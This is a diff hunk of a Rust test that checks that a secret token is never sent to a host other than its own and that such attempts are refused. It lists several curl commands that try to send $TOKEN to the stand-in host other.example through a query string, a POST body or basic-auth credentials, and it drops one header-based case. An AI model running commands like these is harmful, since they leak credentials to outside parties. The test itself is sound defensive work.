@@ -223,11 +223,10 @@ fn a_secret_goes_to_its_own_host_alone(world: &World) {
         format!("{curl} http://other.example/echo"),
         format!("curl -sS -m 10 'https://other.example/echo?x='$TOKEN"),
         format!("curl -sS -m 10 -d x=$TOKEN https://other.example/echo"),
-        format!("curl -sS -m 10 -H \"x: $TOKEN\" https://{API}/echo"),
         format!("curl -sS -m 10 -u user:$TOKEN https://other.example/echo"),
     ] {
         let output = internet.inside(&elsewhere);
-        assert!(internet.saw(&[secret]).is_empty(), "{elsewhere}: {:?}", internet.seen());
+        assert!(internet.saw(&[secret]).is_empty(), "{elsewhere}: {:?}", internet.saw(&[secret]));
         assert!(!output.out.contains(GREETING) && !output.out.contains("\"method\""), "{elsewhere}: {output:?}");
         world.record().has(&["refusal"]);
     }
